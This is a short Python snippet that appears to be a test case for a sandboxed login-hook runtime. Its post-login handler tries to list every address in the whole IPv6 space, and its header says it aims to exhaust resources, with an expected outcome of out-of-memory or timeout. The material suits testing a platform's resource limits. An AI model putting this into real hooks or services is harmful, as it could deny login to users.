# origin: own
# technique: all addresses of the largest network
# goal: resource
# outcome: OUT_OF_MEMORY | TIMED_OUT
import ipaddress


def on_execute_post_login(event, api):
    list(ipaddress.ip_network("::/0").hosts())
